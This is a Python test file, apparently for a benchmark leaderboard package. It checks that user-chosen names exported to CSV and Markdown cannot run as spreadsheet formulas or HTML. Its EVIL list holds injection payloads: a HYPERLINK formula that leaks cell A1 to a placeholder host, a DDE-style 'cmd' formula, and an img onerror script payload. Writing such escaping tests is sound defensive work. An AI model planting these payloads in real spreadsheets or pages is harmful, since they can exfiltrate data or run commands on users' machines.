"""Names that others chose run no formula in a spreadsheet, and are text in Markdown."""

import csv
import io
import re
from dataclasses import replace
from html.parser import HTMLParser

from hypothesis import example, given
from hypothesis import strategies as some

from midmask.evaluation.escaping import csv_cell, markdown_text
from midmask.evaluation.rendering import as_csv as table_csv
from midmask.evaluation.rendering import as_markdown as table_markdown
from midmask.evaluation.tables import by_measure, tabulate
from midmask.leaderboard.board import Board, View, board_of
from midmask.leaderboard.entries import entries
from midmask.leaderboard.export import as_csv, as_markdown
from midmask.leaderboard.marks import Marks
from midmask.leaderboard.rows import place_names, rows
from tests.support.dashboards import compared

EVIL = [
    *('=HYPERLINK("http://host/?"&A1)', "@SUM(1)", "+1+cmd|A0", "-2+3", "\t=1", "\r=1", "\n=1", "x;=1+1", "two\nlines"),
    *('<img src=x onerror="alert(1)">', "a|b", "**bold** _soft_ `code`", "[link](http://host)", "$x$", "\\|"),
]


def board(name: str) -> Board:
    """The board of the benchmark, in which everything that a user names has this name."""
    changed = {"midmask.recipe": name, "midmask.protocol": name, "midmask.backbone": f"{name}2"}
    runs = [replace(run, run_id=f"{name}{run.run_id}", tags=run.tags | changed) for run in compared.tracked_rows()[:1]]
    found = rows([*runs, *compared.tracked_rows()])
    view = View(place_names(row.place for row in found), ("nDCG@10",), {}, "newest", False, "none", name, False)
    return board_of(entries(found), view, lambda shown: Marks(text=f"Not compared: {name}."))


def test_no_cell_of_a_csv_export_is_a_formula() -> None:
    """Also where a spreadsheet divides cells at semicolons, as in countries that write decimals with a comma."""
    for name in EVIL:
        shown = board(name)
        text = as_csv(shown)
        for delimiter in (",", ";"):
            cells = [cell for line in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in line]
            assert not [cell for cell in cells if is_formula(cell)], name
        plain = " ".join(re.split("[\r\n]+", name))
        assert plain in {cell.replace("'", "") for line in csv.reader(io.StringIO(text)) for cell in line}, "all there"
        numbers = [float(line["squad dev nDCG@10"]) for line in csv.DictReader(io.StringIO(text))]
        assert sorted(numbers) == sorted(line.cells["squad dev nDCG@10"].sorts_by for line in shown.lines)


def is_formula(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.lstrip()[:1] in {"=", "@", "+", "-"} or cell[:1] in {"\t", "\r", "\n"}
    return False


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


def tags_of(text: str) -> set[str]:
    parsed = Tags()
    parsed.feed(text)
    return set(parsed.tags)


def test_a_markdown_export_keeps_its_cells_and_no_html() -> None:
    for name in EVIL:
        shown = board(name)
        lines = as_markdown(shown).splitlines()
        counts = {len(re.split(r"(?<!\\)(?:\\\\)*\|", line)) for line in lines[: 2 + len(shown.lines)]}
        assert counts == {4 + len(shown.fields) + len(shown.columns)}, name
        assert len(lines) == 2 + len(shown.lines) + 2, "the table, a blank line, the legend"
        assert tags_of("\n".join(lines)) <= {"sup"}
        assert not re.search(r"(?<!\\)\[", "\n".join(lines)), "no link, no image"


def test_tables_of_a_benchmark_escape_likewise() -> None:
    values = compared.per_query({measure: compared.values("none", 0, measure) for measure in compared.MEASURES})
    made = tabulate(by_measure(dict.fromkeys(EVIL, values), compared.MEASURES))
    cells = [cell for line in csv.reader(io.StringIO(table_csv(made))) for cell in line]
    assert not [cell for cell in cells if is_formula(cell)]
    assert tags_of(table_markdown(made)) <= {"sup"}


@given(some.text())
@example("-5")
@example("+5e3")
@example("1,204")
@example("-1+1")
@example("0;-5;=1")
@example("-5;0")
def test_only_what_a_spreadsheet_would_run_is_changed(text: str) -> None:
    cell = str(csv_cell(text))
    assert not any(is_formula(part.replace(",", "")) for part in [cell, *cell.split(";")])
    if not re.search("(^|;)\\s*[-+=@]|(^|;)\t", text) and not re.search("[\r\n]", text):
        assert cell == text
    assert csv_cell(-0.5) == -0.5 and csv_cell(None) is None


@given(some.text())
def test_markdown_shows_the_text(text: str) -> None:
    """Backslashes and entities taken back, as CommonMark does, the text is there again, in one line."""
    shown = markdown_text(text)
    assert len(shown.splitlines()) <= 1 and not re.search("[<>]", shown)
    plain = Tags()
    plain.feed(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", shown.replace("&amp;", "&amp;amp;")))
    plain.close()
    assert plain.text.replace("&amp;", "&") == " ".join(text.splitlines())
